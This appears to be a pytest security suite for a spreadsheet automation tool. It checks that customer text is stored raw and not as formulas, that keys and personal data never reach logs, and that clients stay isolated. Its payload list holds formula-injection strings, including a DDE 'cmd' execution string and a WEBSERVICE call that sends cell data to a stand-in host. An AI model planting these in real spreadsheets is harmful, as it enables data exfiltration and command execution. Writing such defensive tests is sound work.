"""Security: customer text is never evaluated, secrets and personal data never reach logs
or error messages, and a job for one client never touches another client's spreadsheet.
"""
from __future__ import annotations

import json
import logging
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import requests
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from sheets_automation.backends.base import NewTab, RowAppend, WritePlan
from sheets_automation.backends.gsheets import open_google_backend
from sheets_automation.backends.workbook import WorkbookBackend
from sheets_automation.cli import main
from sheets_automation.config import Config, SpreadsheetConfig
from sheets_automation.demo import sample_rows
from sheets_automation.errors import ProviderError, SpreadsheetAccessError
from sheets_automation.runner import Services, run_once
from sheets_automation.schema import SHIPPED, shipped_schemas
from tests.fakes.seventeen_track import FakeClock, FakeSeventeenTrack
from tests.fakes.sheets_api import FakeSheetsAPI

NOW = datetime(2025, 3, 9, 10, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
NOW_ISO = "2025-03-09T10:00+08:00"
JOBS = ["tracking", "rules", "messages"]
SCHEMAS = shipped_schemas()
FORMULAS = ["=1+1", "=HYPERLINK(\"http://evil.example\",\"click\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
            "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "=WEBSERVICE(\"http://evil.example/?\"&A1)"]
PHONE, ADDRESS, PAYEE = "+86 138 0013 8000", "88 Nanjing Road West, Apt 12B, Shanghai", "payee-secret-4242@bank.example"


def hostile_rows() -> dict[str, list[dict[str, str]]]:
    """Sample rows with formulas in every free-text customer field and personal data about."""
    rows = sample_rows(NOW)
    cases = rows["cases"][:12]
    for i, r in enumerate(cases):
        r["details"] = FORMULAS[i % len(FORMULAS)]
        r["store"] = FORMULAS[(i + 1) % len(FORMULAS)]
        r["support_notes"] = f"called {PHONE}, ships to {ADDRESS}"
        r["order_id"] = f"=IMPORTRANGE(\"x\",\"A{i}\")"  # copied into rows the rules job creates
    cases[0]["order_amount"] = PHONE  # personal data typed into a number column: quoted only in the sheet
    cashback = rows["cashback"][:4]
    for r in cashback:
        r["payee_account"] = PAYEE
    logistics = rows["logistics"][:5]
    logistics[0]["contents"] = "=1+1"
    return {"cases": cases, "logistics": logistics, "cashback": cashback, "reships": rows["reships"][:3]}


def google_tabs() -> dict[str, list[list]]:
    tabs = {}
    for stem, rows in hostile_rows().items():
        schema = SCHEMAS[stem]
        tabs[schema.tab] = [list(schema.headers)] + [[r.get(f, "") for f in schema.fields] for r in rows]
    return tabs


def build_workbook(path: Path) -> Path:
    backend = WorkbookBackend(path)
    backend.init_layout([SCHEMAS["weekly_report"]])
    plan = WritePlan()
    for stem, rows in hostile_rows().items():
        schema = SCHEMAS[stem]
        plan.new_tabs.append(NewTab(schema.tab, schema.headers))
        plan.appends += [RowAppend(schema.tab, tuple((schema.column(f).header, v) for f, v in r.items() if v))
                         for r in rows]
    backend.apply(plan)
    backend.init_layout([SCHEMAS[s] for s in SHIPPED])
    return path


# --------------------------------------------------------------------------- formula injection


def test_google_writes_are_raw_and_no_formula_ever_reaches_the_sheet():
    api = FakeSheetsAPI()
    api.add_spreadsheet("sheet-a", "A", "Asia/Shanghai", google_tabs())
    sheet = SpreadsheetConfig(name="a", spreadsheet_id="sheet-a")
    for _ in range(2):
        run_once(open_google_backend("sheet-a", session=api.session(), sleep=lambda s: None),
                 Config(backend="google", spreadsheets=(sheet,)), sheet, JOBS, NOW)
    values_writes = [body for method, url, body in api.requests if "values:batchUpdate" in url]
    assert values_writes and all(b["valueInputOption"] == "RAW" for b in values_writes)
    assert all("formulaValue" not in json.dumps(body) and "USER_ENTERED" not in json.dumps(body)
               for _m, _u, body in api.requests if body)
    formulas = [(s.title, r, c) for s in api.spreadsheets["sheet-a"].sheets
                for r, row in enumerate(s.rows) for c, cell in row.items() if "f" in cell]
    assert formulas == []
    written = {v for b in values_writes for d in b["data"] for row in d["values"] for v in row}
    assert any(v.startswith("=IMPORTRANGE") for v in written), "customer text starting with = was written back"


def test_workbook_stores_customer_text_as_text_after_a_run(tmp_path):
    path = build_workbook(tmp_path / "ops.xlsx")
    assert main(["run", "--workbook", str(path), "--now", NOW_ISO, "-q"]) == 0
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell appeared"
    looks_like_formula = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    assert looks_like_formula and all(c.data_type == "s" for c in looks_like_formula)


def test_the_demo_workbook_holds_no_formula(demo_master):
    wb = openpyxl.load_workbook(demo_master)
    assert not [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert any(isinstance(c.value, str) and c.value.startswith("=HYPERLINK")
               for row in wb["Cases"].iter_rows() for c in row)


# --------------------------------------------------------------------------- secrets and personal data


def secret_key_file(tmp_path: Path) -> tuple[Path, list[str]]:
    key = rsa.generate_private_key(public_exponent=65537, key_size=1024)
    pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                            serialization.NoEncryption()).decode()
    info = {"type": "service_account", "project_id": "after-service", "private_key_id": "0123abcdkeyid9876",
            "private_key": pem, "client_email": "bot@after-service.iam.gserviceaccount.com",
            "client_id": "109876543210", "token_uri": "https://oauth2.googleapis.com/token"}
    path = tmp_path / "sa.json"
    path.write_text(json.dumps(info))
    body_line = pem.splitlines()[1]
    return path, [body_line, "0123abcdkeyid9876", "109876543210", "PRIVATE KEY"]


def leaks(text: str, secrets: list[str]) -> list[str]:
    return [s for s in secrets if s and s in text]


@pytest.mark.parametrize("shared, sid", [(False, "sheet-a"), (True, "no-such-sheet")], ids=["403", "404"])
def test_a_failing_google_run_with_a_service_account_leaks_nothing(tmp_path, caplog, capsys, shared, sid):
    key_file, secrets = secret_key_file(tmp_path)
    api = FakeSheetsAPI()
    api.add_spreadsheet("sheet-a", "A", "Asia/Shanghai", google_tabs(), shared=shared)
    sheet = SpreadsheetConfig(name="a", spreadsheet_id=sid)
    lines: list[str] = []
    caplog.set_level(logging.DEBUG)
    backend = open_google_backend(sid, credentials_file=str(key_file), session=api.session(), sleep=lambda s: None)
    with pytest.raises(SpreadsheetAccessError) as err:
        run_once(backend, Config(backend="google", spreadsheets=(sheet,)), sheet, JOBS, NOW, log=lines.append)
    out = capsys.readouterr()
    text = "\n".join([str(err.value), repr(err.value), *lines, out.out, out.err, caplog.text, repr(backend.__dict__)])
    assert leaks(text, secrets + [PHONE, ADDRESS, PAYEE]) == []
    assert ("share it with bot@after-service" in str(err.value)) == (not shared)


def test_full_runs_and_the_demo_log_no_personal_data(tmp_path, caplog, capsys):
    caplog.set_level(logging.DEBUG)
    path = build_workbook(tmp_path / "ops.xlsx")
    assert main(["run", "--workbook", str(path), "--now", NOW_ISO]) == 0
    assert main(["run", "--workbook", str(path), "--now", "2025-04-01T10:00+08:00"]) == 0
    assert main(["demo", "--dir", str(tmp_path / "demo"), "--now", NOW_ISO]) == 0
    out = capsys.readouterr()
    text = out.out + out.err + caplog.text
    assert "reading workbook" in text, "the progress lines were captured"
    demo_payees = [r["payee_account"] for r in sample_rows(NOW)["cashback"]]
    assert leaks(text, [PHONE, ADDRESS, PAYEE, *demo_payees]) == []


def test_a_rejected_tracking_key_is_never_repeated(tmp_path, monkeypatch, caplog, capsys):
    secret = "17track-secret-key-5f1e0c"
    fake = FakeSeventeenTrack(FakeClock(), api_key="the-right-key")
    session = requests.Session()
    session.mount("https://api.17track.net/", fake)
    monkeypatch.setenv("SA_TEST_17TRACK_KEY", secret)
    caplog.set_level(logging.DEBUG)
    api = FakeSheetsAPI()
    api.add_spreadsheet("sheet-a", "A", "Asia/Shanghai", google_tabs())
    sheet = SpreadsheetConfig(name="a", spreadsheet_id="sheet-a")
    config = Config(backend="google", spreadsheets=(sheet,), data_dir=tmp_path,
                    tracking={"provider": "17track", "api_key_env": "SA_TEST_17TRACK_KEY"})
    lines: list[str] = []
    with pytest.raises(ProviderError) as err:
        run_once(open_google_backend("sheet-a", session=api.session(), sleep=lambda s: None), config, sheet,
                 ["tracking"], NOW, log=lines.append, services=Services(tracking_session=session))
    out = capsys.readouterr()
    assert leaks("\n".join([str(err.value), *lines, out.out, out.err, caplog.text]), [secret, PAYEE, PHONE]) == []
    assert fake.calls == [] and api.writes == []


# --------------------------------------------------------------------------- client isolation


def test_a_job_for_client_a_never_reads_or_writes_client_b_on_google():
    api = FakeSheetsAPI()
    api.add_spreadsheet("sheet-a", "A", "Asia/Shanghai", google_tabs())
    api.add_spreadsheet("sheet-b", "B", "Asia/Shanghai", google_tabs())
    a, b = SpreadsheetConfig(name="a", spreadsheet_id="sheet-a"), SpreadsheetConfig(name="b", spreadsheet_id="sheet-b")
    before = {t: api.grid("sheet-b", t) for t in google_tabs()}
    config = Config(backend="google", spreadsheets=(a, b))
    for _ in range(2):
        run_once(open_google_backend("sheet-a", session=api.session(), sleep=lambda s: None), config, a, JOBS, NOW)
    assert api.requests and all("/spreadsheets/sheet-a" in url for _m, url, _b in api.requests)
    assert {t: api.grid("sheet-b", t) for t in google_tabs()} == before
    assert [s.title for s in api.spreadsheets["sheet-b"].sheets] == list(google_tabs())


def test_the_cli_run_for_one_workbook_client_leaves_the_other_byte_for_byte(tmp_path):
    a, b = build_workbook(tmp_path / "a.xlsx"), build_workbook(tmp_path / "b.xlsx")
    config = tmp_path / "sheets-automation.toml"
    config.write_text('backend = "workbook"\ntimezone = "Asia/Shanghai"\ndata_dir = "data"\n'
                      f'[[spreadsheets]]\nname = "client-a"\nworkbook = "{a}"\n'
                      f'[[spreadsheets]]\nname = "client-b"\nworkbook = "{b}"\n')
    b_bytes, b_mtime, a_bytes = b.read_bytes(), b.stat().st_mtime_ns, a.read_bytes()
    assert main(["run", "--config", str(config), "--sheet", "client-a", "--now", NOW_ISO, "-q"]) == 0
    assert a.read_bytes() != a_bytes, "client A was evaluated"
    assert (b.read_bytes(), b.stat().st_mtime_ns) == (b_bytes, b_mtime)
    assert not (tmp_path / "data" / "client-b").exists()
